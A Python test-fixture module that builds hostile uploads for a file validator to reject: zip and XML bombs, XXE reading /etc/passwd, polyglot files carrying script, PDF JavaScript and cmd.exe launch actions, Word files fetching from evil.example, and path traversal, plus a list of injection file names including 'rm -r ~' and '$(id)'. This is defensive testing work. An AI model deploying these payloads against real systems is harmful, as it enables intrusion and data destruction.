"""Files that should do harm, made here: each with the name it comes with. Nothing of them may be stored as it is."""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from participation.kernel.media import MEDIA

SCRIPT = b"<script>alert(1)</script>"
MARK = b"hausnummer-12"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
BOM, UTF16 = b"\xef\xbb\xbf", "<html>".encode("utf-16")


def zipped(members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return made.getvalue()


def saved(book):
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def with_parts(document, parts):
    made = io.BytesIO(document)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def related(kind, target):
    """A Word document that loads something from elsewhere when it is opened."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    words = (
        f'<Relationships><Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return with_parts(saved(docx.Document()), {"word/_rels/settings.xml.rels": words})


def picture(kind, size=(40, 30), mode="RGB", **options):
    made = io.BytesIO()
    Image.new(mode, size, 90 if mode in ("L", "1") else "teal").save(made, kind, **options)
    return made.getvalue()


def png_head(width, height):
    """A PNG that promises a size and brings nothing."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")


def located(kind):
    """A picture that says where it was made, in every place where a picture can."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif[0x8825] = {1: "N", 2: (52.0, 1.0, 30.0), 3: "E", 4: (8.0, 32.0, 0.0)}
    words = PngInfo()
    words.add_text("Comment", MARK.decode())
    return picture(kind, exif=exif, comment=MARK, pnginfo=words, xmp=b"<x>" + MARK + b"</x>")


def packed_pdf(words):
    """A PDF whose object stands packed in a stream."""
    stream = zlib.compress(words)
    return b"%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + stream + b"\nendstream endobj\n%%EOF\n"


def pdf_with(words):
    return PDF.replace(b"/Catalog", b"/Catalog" + words)


def bombs():
    """Small files that are large when they are unpacked."""
    empty, sheet = saved(docx.Document()), saved(openpyxl.Workbook())
    null = bytes(101 * 2**20)
    nested = zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": bytes(2**20)})})})
    return {
        "bomb.docx": with_parts(empty, {"word/null.xml": null}),
        "bomb.xlsx": with_parts(sheet, {"xl/worksheets/null.xml": null}),
        "bomb.odt": zipped({"mimetype": MEDIA["odt"].type, "content.xml": null}),
        "bomb.zip": zipped({"null": null}),
        "files.docx": with_parts(empty, {f"word/f{number}.xml": b"" for number in range(1_001)}),
        "nested.docx": with_parts(empty, {"word/inner.zip": nested}),
        "nested.zip": nested,
        "laughs.docx": with_parts(
            empty, {"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>'}
        ),
        "laughs.xlsx": with_parts(
            sheet, {"xl/x.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
        ),
        "pixels.png": png_head(20_000, 20_000),
        "most-pixels.png": png_head(2**31 - 1, 2**31 - 1),
        "one-colour.png": picture("PNG", (10_000, 6_100), "1"),
    }


def masked():
    """Files that are something else than they say, or two things at once."""
    png, jpeg, webp, office = picture("PNG"), picture("JPEG"), picture("WEBP"), saved(docx.Document())
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return {
        "script.svg": svg,
        "script-svg.png": svg,
        "script-svg.txt": b'<?xml version="1.0"?>' + svg,
        "page.html": b"<!DOCTYPE html>" + SCRIPT,
        "page.txt": b"\n\n <HTML>" + SCRIPT,
        "page.jpg": b"<html>" + SCRIPT,
        "page.pdf": b"<html>%PDF-1.7" + SCRIPT + b"%%EOF",
        "wide-page.txt": UTF16,
        "png-with-page.png": png + SCRIPT,
        "jpeg-with-page.jpg": jpeg + b"<html>" + SCRIPT,
        "webp-with-page.webp": webp + SCRIPT,
        "png-and-zip.png": png + zipped({"a.html": SCRIPT}),
        "jpeg-and-pdf.jpg": jpeg[:20] + PDF + jpeg[20:],
        "pdf-and-page.pdf": b"%PDF-1.7\n<html>" + SCRIPT + b"\n%%EOF",
        "pdf-and-zip.pdf": PDF + zipped({"a.exe": b"MZ"}),
        "gif-and-script.gif": b"GIF89a/*" + SCRIPT + b"*/=1",
        "program.pdf": b"MZ\x90\x00" + bytes(99),
        "program.txt": b"\x7fELF\x02\x01\x01" + bytes(99),
        "shell.txt": b"#!/bin/sh\nrm -r ~\n",
        "php.txt": b"<?php system('id'); ?>",
        "macro.docx": with_parts(office, {"word/vbaProject.bin": b"x"}),
        "program.docx": with_parts(office, {"word/media/a.EXE": b"MZ"}),
        "traversal.docx": with_parts(office, {"../../../etc/cron.d/x": b"x"}),
        "backslash.docx": with_parts(office, {"..\\..\\x": b"x"}),
        "template.docx": related("attachedTemplate", "https://evil.example/a.dotm"),
        "pixel.docx": related("image", "https://evil.example/a.png"),
        "object.docx": related("oleObject", "file://evil.example/share/a"),
        "script.odt": zipped({"mimetype": MEDIA["odt"].type, "content.xml": b"<a/>", "Basic/S/M.xml": b"x"}),
        "archive.docx": zipped({"a": b"x"}),
        "half.docx": office[:3_000],
        "half.png": png[:40],
        "half.jpg": jpeg[:60],
        "half.pdf": b"%PDF-1.7\n" + bytes(2_000),
        "script.pdf": pdf_with(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        "escaped-script.pdf": pdf_with(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
        "packed-script.pdf": packed_pdf(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
        "launch.pdf": pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "inside.pdf": pdf_with(b"/Names<</EmbeddedFiles 2 0 R>>"),
        "empty.pdf": b"",
        "controls.txt": b"a\x1b[2Jb\x00",
        "bitmap.png": picture("BMP"),
        "icon.png": picture("ICO"),
        "movie.webp": b"RIFF\x00\x00\x00\x00AVI LIST" + bytes(99),
        "script.js": b"alert(1)",
        "link.url": b"[InternetShortcut]\nURL=https://evil.example",
    }


def harmful():
    """All of them, by name."""
    return bombs() | masked() | {f"located.{kind.lower()}": located(kind) for kind in ("JPEG", "PNG", "WEBP")}


NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\a.dll",
    "/etc/passwd",
    "C:\\con",
    "\\\\host\\share\\a",
    "..",
    ".",
    "...",
    "",
    " ",
    ".htaccess",
    "a/../../b",
    "%2e%2e%2fa",
    "..%5c..%5ca",
    "a\x00.exe",
    "\x00",
    "a\r\nSet-Cookie: x=y",
    "a\nb",
    "\u202efdp.exe",
    "\u2066a\u2069",
    "a\u200bb\u200d",
    "\ufeffa",
    "e" + "\u0301" * 60,
    "u\u0308" * 200,
    "a" * 300,
    "ä" * 300,
    "💩" * 150,
    '"><img src=x onerror=alert(1)>',
    "<script>alert(1)</script>",
    "'; DROP TABLE file;--",
    "$(id)",
    "`id`",
    "a|b",
    "CON",
    "NUL",
    "aux.txt",
    "a.pdf.exe",
    "a.exe\u00a0",
    "=cmd|' /C calc'!A0",
    "\"; filename*=utf-8''x.html",
)


def saved_document():
    """A sound Word document."""
    document = docx.Document()
    document.add_heading("§ 1 Zweck", 1)
    document.add_paragraph("(1) Dieses Gesetz dient der Probe.")
    return saved(document)
